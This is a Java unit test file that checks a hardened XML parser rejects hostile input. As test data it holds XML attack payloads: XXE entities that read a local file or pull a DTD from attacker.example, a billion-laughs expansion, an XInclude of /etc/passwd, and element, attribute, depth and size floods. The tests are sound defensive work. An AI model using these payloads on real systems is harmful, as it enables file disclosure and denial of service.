package fr.passerelle.trust.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;

/** Hostile XML the parser must refuse before any of it is used. */
class HardenedXmlTest {

    private final HardenedXml xml = new HardenedXml(new XmlLimits(64 * 1024, 50, 20, 5_000));

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void parsesOrdinaryNamespacedXml() throws Exception {
        Document document = xml.parse(bytes("<a:x xmlns:a='urn:a'><a:y z='1'>t</a:y></a:x>"));
        assertThat(document.getDocumentElement().getNamespaceURI()).isEqualTo("urn:a");
    }

    @Test
    void externalEntityXxe(@TempDir Path dir) throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "top secret");
        String attack = "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM '" + secret.toUri() + "'>]><r>&x;</r>";
        assertThatThrownBy(() -> xml.parse(bytes(attack))).isInstanceOf(UnsafeXmlException.class)
                .hasMessage("a DOCTYPE is not allowed");
    }

    @Test
    void parameterEntities() {
        String attack = "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY % p SYSTEM 'http://attacker.example/evil.dtd'>%p;]>"
                + "<r/>";
        assertThatThrownBy(() -> xml.parse(bytes(attack))).isInstanceOf(UnsafeXmlException.class)
                .hasMessage("a DOCTYPE is not allowed");
    }

    @Test
    void billionLaughs() {
        StringBuilder attack = new StringBuilder("<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>");
        for (int i = 1; i < 10; i++) {
            attack.append("<!ENTITY lol").append(i).append(" '");
            for (int j = 0; j < 10; j++) {
                attack.append("&lol").append(i == 1 ? "" : String.valueOf(i - 1)).append(';');
            }
            attack.append("'>");
        }
        attack.append("]><lolz>&lol9;</lolz>");
        assertThatThrownBy(() -> xml.parse(bytes(attack.toString()))).isInstanceOf(UnsafeXmlException.class)
                .hasMessage("a DOCTYPE is not allowed");
    }

    @Test
    void externalDtdReference() {
        assertThatThrownBy(() -> xml.parse(bytes("<!DOCTYPE r SYSTEM 'http://attacker.example/x.dtd'><r/>")))
                .isInstanceOf(UnsafeXmlException.class).hasMessage("a DOCTYPE is not allowed");
    }

    @Test
    void xinclude() {
        String attack = "<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' "
                + "parse='text'/></r>";
        assertThatThrownBy(() -> xml.parse(bytes(attack))).isInstanceOf(UnsafeXmlException.class)
                .hasMessage("XInclude is not allowed");
    }

    @Test
    void deepNesting() {
        String attack = "<a>".repeat(1_000) + "</a>".repeat(1_000);
        assertThatThrownBy(() -> xml.parse(bytes(attack))).isInstanceOf(UnsafeXmlException.class)
                .hasMessageContaining("nested deeper than");
    }

    @Test
    void attributeFlood() {
        StringBuilder attack = new StringBuilder("<a");
        for (int i = 0; i < 100; i++) {
            attack.append(" a").append(i).append("='x'");
        }
        attack.append("/>");
        assertThatThrownBy(() -> xml.parse(bytes(attack.toString()))).isInstanceOf(UnsafeXmlException.class)
                .hasMessageContaining("too many attributes");
    }

    @Test
    void tooManyElements() {
        String attack = "<a>" + "<b/>".repeat(6_000) + "</a>";
        assertThatThrownBy(() -> xml.parse(bytes(attack))).isInstanceOf(UnsafeXmlException.class)
                .hasMessage("more than 5000 elements");
    }

    @Test
    void oversizedDocument() {
        String attack = "<a>" + "x".repeat(70 * 1024) + "</a>";
        assertThatThrownBy(() -> xml.parse(bytes(attack))).isInstanceOf(UnsafeXmlException.class)
                .hasMessageContaining("exceeds the limit of 65536");
    }

    @Test
    void malformedXmlIsReportedWithoutContent() {
        assertThatThrownBy(() -> xml.parse(bytes("<a><b></a>"))).isInstanceOf(UnsafeXmlException.class)
                .hasMessageStartingWith("malformed XML at line 1");
    }

    @Test
    void inspectRefusesADomParsedElsewhereWithADoctype() throws Exception {
        javax.xml.parsers.DocumentBuilderFactory lax = javax.xml.parsers.DocumentBuilderFactory.newDefaultInstance();
        Document parsedByOthers = lax.newDocumentBuilder().parse(new java.io.ByteArrayInputStream(
                bytes("<!DOCTYPE r [<!ENTITY e 'v'>]><r>&e;</r>")));
        assertThatThrownBy(() -> xml.inspect(parsedByOthers)).isInstanceOf(UnsafeXmlException.class)
                .hasMessage("a DOCTYPE is not allowed");
    }
}
